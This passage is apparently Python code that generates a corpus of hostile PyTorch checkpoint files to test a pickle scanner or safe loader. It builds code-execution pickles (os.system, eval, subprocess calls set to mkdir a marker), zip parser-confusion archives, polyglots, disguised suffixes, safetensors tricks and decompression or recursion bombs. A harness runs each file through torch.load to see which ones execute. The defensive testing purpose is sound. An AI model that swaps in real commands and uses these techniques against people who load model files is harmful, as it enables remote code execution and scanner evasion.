        yield from in_all_forms(f"route: {name}", fragment, live=True)
    for name, fragment in gadgets(marker).items():
        yield from in_all_forms(f"gadget: {name}", fragment, live=True)


def names(marker: str) -> Iterator[Hostile]:
    for number, name in enumerate(NAMED.split()):
        form = FORMS[number % 3]
        yield Hostile(f"named: {name} ({form})", MAKERS[form](of(name, marker)), live=None)


def every_opcode(marker: str) -> Iterator[Hostile]:
    """Each opcode beside weights, and each opcode after a payload."""
    payload = call(glob("posix", "mkdir"), text(marker)) + b"0"
    for name, fragment in opcodes(marker).items():
        plain = name not in {"GLOBAL", "STACK_GLOBAL"}
        yield from in_all_forms(f"opcode: {name}", fragment, may_load=plain)
        yield from in_all_forms(f"opcode after a payload: {name}", payload + fragment, live=True)
    yield from in_all_forms("opcode: STOP", b".", may_load=True)


def generated(marker: str, count: int = 200, seed: int = 0) -> Iterator[Hostile]:
    """Seeded compositions of callable, spelling, place, wrapping, protocol and form."""
    random = np.random.default_rng(seed)
    python, shell = f"__import__('os').mkdir({marker!r})", f"mkdir {marker}"
    callables = [
        ("posix", "mkdir", marker),
        ("os", "mkdir", marker),
        ("os", "makedirs", marker),
        ("os", "system", shell),
        ("posix", "system", shell),
        ("builtins", "eval", python),
        ("builtins", "exec", python),
        ("subprocess", "getoutput", shell),
        ("torch.utils.collect_env", "run", shell),
        ("os", "mknod", marker),
    ]

    def strings(value: str) -> bytes:
        data = value.encode()
        spellings = [
            text(value),
            b"V" + data + b"\n",
            b"S" + repr(value).encode() + b"\n",
            b"T" + struct.pack("<i", len(data)) + data,
            b"\x8d" + struct.pack("<q", len(data)) + data,
            text(value) + b"p%d\n" % (1000 + len(data)),
            text(value) + b"20",
        ]
        return spellings[random.integers(len(spellings))]

    def function(where: str, name: str) -> bytes:
        spellings = [
            glob(where, name),
            strings(where) + strings(name) + b"\x93",
            get(module(where), name),
            call(glob("pkgutil", "resolve_name"), strings(f"{where}:{name}")),
            call(call(glob("operator", "attrgetter"), strings(name)), module(where)),
            call(stack_glob("torch.serialization", "os.sys.modules.get"), strings(where))
            + b"p990\n0"
            + get(b"g990\n", name),
        ]
        return spellings[random.integers(len(spellings))]

    def fire(where: str, name: str, argument: str) -> bytes:
        target, value = function(where, name), strings(argument)
        spellings = [
            call(target, value),
            target + value + b"\x85R",
            b"(" + target + value + b"o",
            b"(" + value + f"i{where}\n{name}\n".encode(),
            call(call(glob("functools", "partial"), target, value)),
            call(glob("builtins", "list"), call(glob("builtins", "map"), target, value + b"\x85")),
            of("argparse:Namespace") + b"}" + text("__setstate__") + target + b"sb" + value + b"b",
        ]
        return spellings[random.integers(len(spellings))]

    wrappings = [
        lambda fragment: fragment,
        lambda fragment: b"(" + fragment + b"l",
        lambda fragment: fragment + b"\x85\x85\x85",
        lambda fragment: b"}" + text("x") + fragment + b"s",
        lambda fragment: fragment + b"0N",
        lambda fragment: b"(" + fragment + b"1N",
        lambda fragment: of("pickle:loads", b"\x80\x04" + fragment + b"."),
        lambda fragment: call(glob("collections", "OrderedDict")) + b"}" + text("x") + fragment + b"sb",
    ]
    for number in range(count):
        where, name, argument = callables[random.integers(len(callables))]
        wrap, place = wrappings[random.integers(len(wrappings))], PLACES[random.integers(len(PLACES))]
        protocol, form = int(random.integers(2, 6)), FORMS[random.integers(len(FORMS))]
        fragment = b"\x80" + bytes([protocol]) + wrap(fire(where, name, argument))
        yield Hostile(
            f"generated {number}: {where}.{name}, protocol {protocol}, {place} ({form})",
            MAKERS[form](fragment, place),
            live=True,
        )


def legacy_pickles(marker: str) -> Iterator[Hostile]:
    """Payloads in the other pickles of a legacy file, and between them."""
    honest = parts(saved(weights(), legacy=True))
    titles = ("magic", "protocol", "system", "value", "keys")
    some = {
        key: value for key, value in routes(marker).items() if key in {"GLOBAL, REDUCE", "STACK_GLOBAL", "OBJ", "INST"}
    }
    for (index, title), (route, fragment) in itertools.product(enumerate(titles), some.items()):
        for place in ("before", "dropped"):
            pieces = list(honest)
            pieces[index] = with_extra(pieces[index], fragment, place)
            yield Hostile(f"legacy: {route} {place} the {title}", b"".join(pieces), live=True)
    payload = some["GLOBAL, REDUCE"]
    pieces = list(honest)
    pieces[0] = b"\x80\x02" + payload + b"0" + of("builtins:int", "119547037146038801333356") + b"."
    yield Hostile("legacy: a computed magic", b"".join(pieces), live=True)
    yield Hostile(
        "legacy: a sixth pickle", b"".join(honest[:5]) + b"\x80\x02" + payload + b"." + honest[5], may_load=True
    )
    yield Hostile("legacy: a pickle at the end", b"".join(honest) + b"\x80\x02" + payload + b".", may_load=True)
    yield Hostile("legacy: twice", b"".join(honest) + as_legacy(payload), may_load=True)
    yield Hostile("legacy: after STOP", b"".join([*honest[:3], honest[3] + payload + b".", *honest[4:]]), may_load=True)


def patched(
    content: bytes,
    local: dict[int, bytes] | None = None,
    central: dict[int, bytes] | None = None,
    name: bytes = b"archive/data.pkl",
) -> bytes:
    """A zip with fields of one entry's local or central header overwritten, at offsets from the header's start."""
    data = bytearray(content)
    first, last = data.index(name) - 30, data.rindex(name) - 46
    assert data[first : first + 4] == b"PK\x03\x04"
    assert data[last : last + 4] == b"PK\x01\x02"
    for start, fields in ((first, local or {}), (last, central or {})):
        for offset, value in fields.items():
            data[start + offset : start + offset + len(value)] = value
    return bytes(data)


TORCH_RUNS = """
data.pkl twice, payload second; other local name; CRC 0 in both; CRC 0 in the directory; CRC 0 in the local header;
flag 0x1 in the local header; flag 0x8 in both; flag 0x8 in the directory; flag 0x8 in the local header;
flag 0x20 in the local header; flag 0x40 in the local header; flag 0x800 in both; flag 0x800 in the directory;
flag 0x800 in the local header; flag 0x2000 in the local header; size 0 in the local header; size 1 in the local header;
size 4 GiB - 1 in the local header; size 1 GiB in the local header; link; packed by deflate; named archive/DATA.PKL;
a folder of 300 letters; payload, and code/__torch__.py; payload, and attributes.pkl; payload, and model.json;
payload, and archive_format; payload, and models/model.json; payload, and data.pkl.bak; payload, and bytecode.pkl;
payload, and extra/x.pkl; a second end in the comment; junk at the end; names swapped by Unicode path fields
"""
"""The archives in which torch's reader finds the payload, though others see a damaged or an honest file."""


def archives(marker: str) -> Iterator[Hostile]:
    """Zip archives that readers understand in different ways."""
    runs = {title.strip() for title in TORCH_RUNS.replace("\n", " ").split(";")}
    for file in ambiguous_archives(marker):
        yield replace(file, live=file.name.removeprefix("zip: ") in runs)


def ambiguous_archives(marker: str) -> Iterator[Hostile]:
    payload = call(glob("posix", "mkdir"), text(marker))
    honest, evil = entries(saved(weights())), as_zip(payload)
    files = entries(evil)
    bad = files["archive/data.pkl"]
    others = {name: content for name, content in files.items() if name != "archive/data.pkl"}
    good_entry = ("archive/data.pkl", honest["archive/data.pkl"])

    def doubled(first: bytes, second: bytes) -> bytes:
        return zipped([("archive/data.pkl", first), ("archive/data.pkl", second), *others.items()])

    elsewhere = [
        ("other/data.pkl", bad),
        *((name.replace("archive", "other"), content) for name, content in others.items()),
    ]
    yield Hostile("zip: two folders, payload second", zipped([good_entry, *others.items(), *elsewhere]))
    yield Hostile("zip: two folders, payload first", zipped([*elsewhere, good_entry, *others.items()]))
    yield Hostile("zip: data.pkl twice, payload second", doubled(honest["archive/data.pkl"], bad))
    yield Hostile("zip: data.pkl twice, payload first", doubled(bad, honest["archive/data.pkl"]), may_load=True)
    yield Hostile("zip: other local name", patched(evil, local={30: b"archive/datap.kl"}))
    yield Hostile("zip: other central name", patched(evil, central={46: b"archive/datap.kl"}))
    yield Hostile("zip: CRC 0 in both", patched(evil, local={14: bytes(4)}, central={16: bytes(4)}))
    yield Hostile("zip: CRC 0 in the directory", patched(evil, central={16: bytes(4)}))
    yield Hostile("zip: CRC 0 in the local header", patched(evil, local={14: bytes(4)}))
    for bit in (0x1, 0x8, 0x20, 0x40, 0x800, 0x2000):
        flags = struct.pack("<H", bit)
        yield Hostile(f"zip: flag {bit:#x} in both", patched(evil, local={6: flags}, central={8: flags}))
        yield Hostile(f"zip: flag {bit:#x} in the directory", patched(evil, central={8: flags}))
        yield Hostile(f"zip: flag {bit:#x} in the local header", patched(evil, local={6: flags}))
    for method in (1, 8, 9, 12, 14, 93, 99):
        number = struct.pack("<H", method)
        yield Hostile(f"zip: method {method} claimed", patched(evil, local={8: number}, central={10: number}))
    for title, size in {"0": 0, "1": 1, "4 GiB - 1": 2**32 - 1, "1 GiB": 2**30}.items():
        number = struct.pack("<I", size)
        yield Hostile(f"zip: size {title} in the directory", patched(evil, central={20: number, 24: number}))
        yield Hostile(f"zip: unpacked size {title} in the directory", patched(evil, central={24: number}))
        yield Hostile(f"zip: size {title} in the local header", patched(evil, local={18: number, 22: number}))
    yield Hostile("zip: header elsewhere", patched(evil, central={42: struct.pack("<I", 2**31)}))
    yield Hostile("zip: directory flag", patched(evil, central={38: struct.pack("<I", 0x10)}))
    yield Hostile("zip: link", patched(evil, central={38: struct.pack("<I", 0o120777 << 16)}))
    for method, title in ((zipfile.ZIP_DEFLATED, "deflate"), (zipfile.ZIP_BZIP2, "bzip2"), (zipfile.ZIP_LZMA, "lzma")):
        yield Hostile(f"zip: packed by {title}", zipped(files, method))
    for name in (
        "data.pkl",
        "a/b/data.pkl",
        "../data.pkl",
        "/data.pkl",
        "archive\\data.pkl",
        "archive/DATA.PKL",
        "archive/data.pkl/",
        "archive//data.pkl",
        "archive/./data.pkl",
        "archive/data.pkl ",
        "archive/data.pickle",
        "archivе/data.pkl",
    ):
        yield Hostile(f"zip: named {name}", zipped([(name, bad), *others.items()]))
    moved = {f"{'x' * 300}/{name.partition('/')[2]}": content for name, content in files.items()}
    yield Hostile("zip: a folder of 300 letters", zipped(moved))
    for name in ("evil.pkl", "version", "byteorder", ".data/serialization_id", ".format_version", ".storage_alignment"):
        changed = {**honest, f"archive/{name}": b"\x80\x02" + payload + b"."}
        yield Hostile(f"zip: payload as {name}", zipped(changed), may_load=True)
    yield Hostile(
        "zip: payload as tensor data", zipped({**honest, "archive/data/0": b"\x80\x02" + payload + b"."}), may_load=True
    )
    for name in (
        "constants.pkl",
        "code/__torch__.py",
        "attributes.pkl",
        "model.json",
        "archive_format",
        "models/model.json",
        "data.pkl.bak",
        "bytecode.pkl",
        "extra/x.pkl",
    ):
        yield Hostile(f"zip: payload, and {name}", zipped({**files, f"archive/{name}": bad}))
    comment = evil[:-2] + struct.pack("<H", len(saved(weights()))) + saved(weights())
    yield Hostile("zip: a whole archive in the comment", comment)
    yield Hostile("zip: a second end in the comment", evil[:-2] + struct.pack("<H", 22) + evil[-22:])
    yield Hostile("zip: junk at the end", evil + b"junk" * 5)
    yield Hostile("zip: junk before", b"junk" * 16 + evil)
    yield Hostile("zip: PK junk before", b"PK\x03\x04" + bytes(60) + evil)
    yield Hostile("zip: two archives, payload last", saved(weights()) + evil)
    yield Hostile("zip: two archives, payload first", evil + saved(weights()), may_load=True)
    yield Hostile("zip: entry count 0", evil[:-14] + bytes(4) + evil[-10:])
    yield Hostile("zip: entry count 65535", evil[:-14] + b"\xff" * 4 + evil[-10:])
    yield Hostile("zip: spanned", evil[:-18] + b"\1\0\1\0" + evil[-14:])
    yield Hostile("zip: no directory", evil[: evil.index(b"PK\x01\x02")])
    yield Hostile("zip: ends alone", evil[-22:])
    yield Hostile("zip: names swapped by Unicode path fields", renamed_by_fields(files, honest["archive/data.pkl"]))
    yield Hostile("zip: in a zip", zipped({"archive/data.pkl": evil}))
    yield Hostile("zip: of a legacy file", zipped({"archive/data.pkl": as_legacy(payload)}))


def renamed_by_fields(files: dict[str, bytes], honest: bytes) -> bytes:
    """The payload as data.pkl, and beside it an honest pickle that readers of the field 0x7075 take for data.pkl."""
    stream = io.BytesIO()
    fields = {"archive/data.pkl": "archive/other.pkl", "archive/other.pkl": "archive/data.pkl"}
    with zipfile.ZipFile(stream, "w") as archive:
        for name, content in {**files, "archive/other.pkl": honest}.items():
            info = zipfile.ZipInfo(name)
            if name in fields:
                field = b"\1" + struct.pack("<I", zlib.crc32(name.encode())) + fields[name].encode()
                info.extra = struct.pack("<HH", 0x7075, len(field)) + field
            archive.writestr(info, content)
    return stream.getvalue()


def disguises(marker: str) -> Iterator[Hostile]:
    """Payloads under other names, inside other archives, and in files that are two things at once."""
    payload = call(glob("posix", "mkdir"), text(marker))
    forms = {form: MAKERS[form](payload) for form in FORMS}
    suffixes = (
        ".safetensors",
        ".png",
        ".txt",
        ".bin",
        ".npy",
        ".onnx",
        ".h5",
        ".ckpt",
        ".pkl",
        ".joblib",
        ".zip",
        ".json",
        "",
    )
    for suffix, form in itertools.product(suffixes, FORMS):
        yield Hostile(
            f"suffix {suffix or 'none'} ({form})", forms[form], suffix, live=suffix != ".safetensors" or form == "bare"
        )
    packers: dict[str, Callable[[bytes], bytes]] = {
        "gzip": gzip.compress,
        "bz2": bz2.compress,
        "xz": lzma.compress,
        "zlib": zlib.compress,
        "base64": base64.b64encode,
        "7z": lambda data: b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24) + data,
        "tar": lambda data: tarred({"archive/data.pkl": data}),
        "zstd": lambda data: b"\x28\xb5\x2f\xfd\x04\x00" + data,
        "hex": lambda data: data.hex().encode(),
    }
    for (title, pack), form in itertools.product(packers.items(), FORMS):
        yield Hostile(f"packed: {title} ({form})", pack(forms[form]))
    for title in ("sys_info", "pickle", "storages", "tensors"):
        members = {name: pickle.dumps(0, 2) for name in ("sys_info", "pickle", "storages", "tensors")}
        members[title] = b"\x80\x02" + payload + b"0K\x00."
        yield Hostile(f"old tar: payload as {title}", tarred(members), live=title in {"storages"})
    heads = {
        "PNG": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(17),
        "GIF": b"GIF89a\1\0\1\0\0\0\0;",
        "PDF": b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n",
        "ELF": b"\x7fELF\2\1\1" + bytes(57),
        "shell": f"#!/bin/sh\nmkdir {marker}\nexit\n".encode(),
        "HTML": b"<!DOCTYPE html><script>1</script>\n",
        "JPEG": b"\xff\xd8\xff\xe0\0\x10JFIF\0" + bytes(9),
        "MZ": b"MZ" + bytes(62),
        "NumPy": b"\x93NUMPY\1\0" + struct.pack("<H", 54) + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,)} ",
        "HDF5": b"\x89HDF\r\n\x1a\n" + bytes(40),
        "Python": f"import os; os.mkdir({marker!r})\n".encode(),
        "JSON": b'{"a": 1}\n',
        "zip's end": b"PK\x05\x06" + bytes(18),
        "pickle": pickle.dumps({"w": 1}, 2),
        "protocol 4 pickle": pickle.dumps(1, 4),
        "LFS": b"version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 9\n",
        "newline": b"\n",
        "BOM": b"\xef\xbb\xbf",
    }
    for (title, head), form in itertools.product(heads.items(), FORMS):
        yield Hostile(f"polyglot: {title} before ({form})", head + forms[form])
    yield Hostile("polyglot: pickle, then zip", forms["bare"] + saved(weights()), live=True)
    yield Hostile(
        "polyglot: honest legacy, then hostile zip", saved(weights(), legacy=True) + forms["zip"], may_load=True
    )
    yield Hostile("polyglot: hostile legacy, then honest zip", forms["legacy"] + saved(weights()), live=True)
    yield Hostile("polyglot: honest zip, then pickle", saved(weights()) + forms["bare"], may_load=True)
    yield from safetensors_with_payloads(payload)


def tarred(members: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return stream.getvalue()


def safetensors_with_payloads(payload: bytes) -> Iterator[Hostile]:
    pickled = b"\x80\x02" + payload + b"."
    latin = base64.b64encode(pickled).decode()

    def file(header: str, data: bytes = bytes(8)) -> bytes:
        return struct.pack("<Q", len(header)) + header.encode() + data

    entry = '"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}'
    wide = f'{{"w":{{"dtype":"U8","shape":[{len(pickled)}],"data_offsets":[0,{len(pickled)}]}}}}'
    yield Hostile("safetensors: header, then a pickle", file("{}", pickled), ".safetensors")
    yield Hostile("safetensors: a pickle at the end", file(f"{{{entry}}}", bytes(8) + pickled), ".safetensors")
    yield Hostile("safetensors: a pickle as data", file(wide, pickled), ".safetensors", may_load=True)
    yield Hostile("safetensors: a zip at the end", file(f"{{{entry}}}", bytes(8) + as_zip(payload)), ".safetensors")
    yield Hostile("safetensors: a pickle as header", struct.pack("<Q", len(pickled)) + pickled, ".safetensors")
    yield Hostile(
        "safetensors: begins like a pickle", b"\x80\x02" + bytes(6) + b"{" + b" " * 640 + pickled, ".safetensors"
    )
    cards = {
        "base64": latin,
        "an arch with a path": '{"arch": "/tmp/evil.py:net"}',
        "no JSON": "cposix\nsystem\n",
        "a list": "[1]",
        "null": "null",
        "deep": "[" * 5000,
        "huge number": "1" * 5000,
        "NaN": '{"mean": [NaN]}',
        "twice": '{"arch": 1, "arch": 2}',
        "surrogate": '"\\ud800"',
        "__class__": '{"__class__": {"__reduce__": 1}}',
    }
    for title, card in cards.items():
        quoted = card.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
        yield Hostile(
            f"safetensors: card is {title}",
            file(f'{{"__metadata__":{{"unplant":"{quoted}"}},{entry}}}'),
            ".safetensors",
            may_load=True,
        )


DOUBLE = b"q\xf2h\xf2\x86"
"""Makes x to (x, x), by the memo."""


def bombs(marker: str) -> Iterator[Hostile]:
    """Small files that ask for much time or memory; no payload."""
    del marker
    many = 20_000
    fragments = {
        "nested lists": b"]" * many + b"a" * (many - 1),
        "nested tuples": b")" + b"\x85" * many,
        "nested marks": b"(" * many + b"t" * many,
        "doubled 100 times": b")" + DOUBLE * 100,
        "doubled lists": b"]" + (DOUBLE + b"\x85") * 60,
        "doubled as a key": b"})" + DOUBLE * 20 + b"Ns",
        "LONG of 100,000 digits": b"L" + b"9" * 100_000 + b"L\n",
        "INT of 100,000 digits": b"I" + b"9" * 100_000 + b"\n",
        "LONG4 of 1 MB": b"\x8b" + struct.pack("<i", 2**20) + b"\x7f" * 2**20,
        "LONG4 of negative length": b"\x8b" + b"\xff" * 4,
        "LONG_BINPUT 2^32 - 1": b"Nr\xff\xff\xff\xff",
        "PUT 10^12": b"Np1000000000000\n",
        "PUT -1": b"Np-1\n",
        "GET -1": b"g-1\n",
        "BINUNICODE8 of 2^63": b"\x8d" + b"\xff" * 7 + b"\x7f",
        "BINBYTES8 of 2^40": b"\x8e" + struct.pack("<Q", 2**40),
        "BYTEARRAY8 of 2^40": b"\x96" + struct.pack("<Q", 2**40),
        "BINUNICODE of 4 GB": b"X\xff\xff\xff\xff",
        "FRAME of 2^63": b"\x95" + b"\xff" * 7 + b"\x7fN",
        "bytearray of 2^40": of("builtins:bytearray", 2**40),
        "OrderedDict of itself": call(glob("collections", "OrderedDict")) + b"p920\n" + text("x") + b"g920\ns",
        "a list in itself": b"]p921\ng921\na",
        "a dict in itself": b"}p922\n" + text("net") + b"g922\ns",
        "100,000 empty dicts": b"(" + b"}" * 100_000 + b"l",
        "empty stack": b"0000",
        "SETITEMS of one": b"}(Nu",
        "no MARK": b"Nt",
        "unhashable key": b"}]Ns",
        "STRING without quotes": b"Sx\n",
        "bad UTF-8": b"X\1\0\0\0\xff",
        "FLOAT of text": b"Fx\n",
        "Size of 2^62": of("torch:Size", (2**62, 2**62)),
        "BUILD of None": b"Nb",
        "protocol 255": b"\x80\xffN",
        "dtype of text": of("torch._utils:_rebuild_tensor_v2", "x", 0, (1,), (1,), False, None),
        "device": of("torch:device", "cuda:99"),
        "device 2": of("torch:device", "x" * 10_000),
        "Parameter of text": of("torch._utils:_rebuild_parameter", "x", True, None),
    }
    for name, fragment in fragments.items():
        yield from in_all_forms(f"bomb: {name}", fragment, may_load=True)
    numbers: dict[str, tuple[bytes, ...]] = {
        "offset": (b"K\x00K\x02K\x03\x86", b"J\xff\xff\xff\x7fK\x02K\x03\x86"),
        "negative offset": (b"K\x00K\x02K\x03\x86", b"J\xff\xff\xff\xffK\x02K\x03\x86"),
        "size": (b"K\x02K\x03\x86", b"J\xff\xff\xff\x7fJ\xff\xff\xff\x7f\x86"),
        "negative size": (b"K\x02K\x03\x86", b"J\xfe\xff\xff\xffJ\xfd\xff\xff\xff\x86"),
        "size of 2^63": (b"K\x02K\x03\x86", b"\x8a\x09" + bytes(7) + b"\x80\x00K\x00\x86"),
        "stride": (b"K\x03K\x01\x86", b"J\xff\xff\xff\x7fK\x01\x86"),
        "negative stride": (b"K\x03K\x01\x86", b"K\x03J\xff\xff\xff\xff\x86"),
        "zero stride": (b"K\x02K\x03\x86", b"J\0\0\0\x40J\0\0\0\x40\x86", b"K\x03K\x01\x86", b"K\x00K\x00\x86"),
        "two strides, three sizes": (b"K\x02K\x03\x86", b"K\x01K\x02K\x03\x87"),
        "storage of 2^31": (b"K\x06t", b"J\xff\xff\xff\x7ft"),
        "storage of -1": (b"K\x06t", b"J\xff\xff\xff\xfft"),
        "storage of text": (b"K\x06t", text("6") + b"t"),
        "float for a size": (b"K\x02K\x03\x86", b"G" + struct.pack(">d", 2) + b"K\x03\x86"),
        "True for a size": (b"K\x02K\x03\x86", b"\x88K\x06\x86"),
        "another storage key": (text("0"), text("../version")),
        "an absolute storage key": (text("0"), text("/etc/passwd")),
        "a numbered storage key": (text("0"), b"K\x00"),
        "cuda": (text("cpu"), text("cuda:0")),
        "meta": (text("cpu"), text("meta")),
        "a device of text": (text("cpu"), text("toaster")),
        "DoubleStorage": (b"FloatStorage", b"DoubleStorage"),
        "UntypedStorage": (b"FloatStorage", b"UntypedStorage"),
        "no storage": (b"FloatStorage", b"Tensor"),
        "dtype for a storage": (b"FloatStorage", b"float32"),
        "other typename": (text("storage"), text("module")),
    }
    for name, changes in numbers.items():
        files, pieces = entries(saved(weights())), parts(saved(weights(), legacy=True))
        for old, new in zip(changes[::2], changes[1::2], strict=True):
            assert old in files["archive/data.pkl"], f"torch's own pickle has changed: no place for {name}"
            files["archive/data.pkl"] = files["archive/data.pkl"].replace(old, new)
            pieces[3] = pieces[3].replace(old, new)
        yield Hostile(f"bomb: tensor with {name} (zip)", zipped(files), may_load=True)
        yield Hostile(f"bomb: tensor with {name} (legacy)", b"".join(pieces), may_load=True)


def honest_tensor(storage: str = "FloatStorage") -> bytes:
    """The six numbers of the honest weights, in a row."""
    pid = push(("storage",))[:-1] + glob("torch", storage) + text("0") + text("cpu") + push(6) + b"tQ"
    plain = push(0) + push((6,)) + push((1,)) + push(False)
    return call(glob("torch._utils", "_rebuild_tensor_v2"), pid, plain, call(glob("collections", "OrderedDict")))


def liars() -> Iterator[Hostile]:
    """Files without a payload that spoil messages, hide methods of what is loaded, or claim weights they don't hold."""

    def whole(fragment: bytes) -> bytes:
        return as_zip(fragment, "instead")

    ordered, weight = call(glob("collections", "OrderedDict")), text("w") + honest_tensor() + b"s"
    yield Hostile("a name with control characters", as_zip(glob("os\x1b[31m\r", "system\x07")))
    yield Hostile("a name with a line separator", as_zip(glob("os\u2028x", "system")))
    yield Hostile("a name of 5,000 letters", as_zip(glob("a" * 5000, "x")))
    yield Hostile(
        "six names of 300 letters", as_zip(b"(" + b"".join(glob("a" * 300 + str(k), "x") for k in range(6)) + b"t")
    )
    yield Hostile("a key with a newline", whole(push({"a\nb\x1b[0m": 1})))
    yield Hostile("a key with a surrogate", whole(push({"\ud800": 1})))
    content = patched(saved(weights()), local={14: bytes(4)}, central={16: bytes(4)}, name=b"archive/data/0")
    yield Hostile("an entry with an escape", content.replace(b"archive/data/0", b"archive/d\x1b[3/0"))
    yield Hostile("a tensor of what is in memory", whole(b"}" + text("w") + of("torch:FloatTensor", 2**20) + b"s"))
    new = glob("torch", "FloatTensor") + push((2**20,)) + b"\x81"
    yield Hostile("a tensor of what is in memory, by NEWOBJ", whole(b"}" + text("w") + new + b"s"))
    header = b'{"w":{"dtype":"F32","shape":[0,9223372036854775808],"data_offsets":[0,0]}}'
    yield Hostile("a safetensors shape of 2^63", struct.pack("<Q", len(header)) + header, ".safetensors")
    pieces = parts(saved(weights(), legacy=True))
    yield Hostile("a legacy storage that stays unfilled", b"".join([*pieces[:4], b"\x80\x02].", pieces[5]]))
    for names in (("values",), ("items", "keys"), ("get",), ("__class__",)):
        hidden = push(dict.fromkeys(names, 1)) + b"b"
        yield Hostile(f"a dictionary whose {names[0]} is a number", whole(ordered + weight + hidden), may_load=True)
        yield Hostile(f"a wrapper whose {names[0]} is a number", whole(ordered + text("x") + b"Ns" + hidden))
    for name in ("numel", "is_complex", "layout", "device", "shape"):
        stateful = call(
            glob("torch._utils", "_rebuild_parameter_with_state"), honest_tensor(), push(True), ordered, push({name: 1})
        )
        yield Hostile(f"a parameter whose {name} is a number", whole(b"}" + text("w") + stateful + b"s"), may_load=True)


def depths(depth: int = 400_000) -> dict[str, bytes]:
    """Checkpoints of a few bytes per level, within the limits: to walk or hash them fills the stack, or never ends."""
    tuples = b")" + b"\x85" * depth
    return {
        "tuple as a value": as_zip(tuples),
        "list as a value": as_zip(b"]" * depth + b"a" * (depth - 1)),
        "wrapper in wrapper": as_zip((b"}" + text("net")) * (depth // 8) + b"N" + b"s" * (depth // 8), "instead"),
        "marks": as_zip(b"(" * depth + b"t" * depth),
        "tuple as a size": as_zip(
            call(glob("torch._utils", "_rebuild_tensor_v2"), b"N", push(0), tuples, tuples, b"N", b"N")
        ),
        "tuple as a storage key": as_zip(push(("storage",))[:-1] + b"N" + tuples + b"NNtQ"),
        "tuple as a key": as_zip(tuples, "key"),
        "doubled tuple as a key": as_zip(b")" + DOUBLE * 60, "key"),
    }


FAMILIES: dict[str, Callable[[str], Iterator[Hostile]]] = {
    "tricks": tricks,
    "names": names,
    "every opcode": every_opcode,
    "generated": generated,
    "legacy pickles": legacy_pickles,
    "archives": archives,
    "disguises": disguises,
    "bombs": bombs,
}


# The before-check: what happens to somebody who loads these files the plain way.


def load_dangerously(path: Path) -> None:
    content = path.read_bytes()
    if content[:2] == b"PK" or b"protocol_version" in content or path.stem.startswith("tar"):
        torch.load(path, weights_only=False)
    else:
        pickle.loads(content)


def remove(marker: Path) -> bool:
    """Whether the marker was there; it is gone then."""
    if not os.path.lexists(marker):
        return False
    if marker.is_dir() and not marker.is_symlink():
        shutil.rmtree(marker)
    else:
        marker.unlink()
    return True


def main(folder: Path, marker: Path) -> None:
    """Loads each file of the folder the dangerous way; prints those that made the marker."""
    alive = []
    for path in sorted(folder.iterdir()):
        remove(marker)
        with contextlib.suppress(BaseException):
            load_dangerously(path)
        if remove(marker):
            alive.append(path.name)
    sys.__stdout__.write("\nALIVE " + " ".join(alive) + "\n")
    sys.__stdout__.flush()
    os._exit(0)  # what the payloads left behind may hang the interpreter's end


if __name__ == "__main__":
    main(Path(sys.argv[1]), Path(sys.argv[2]))
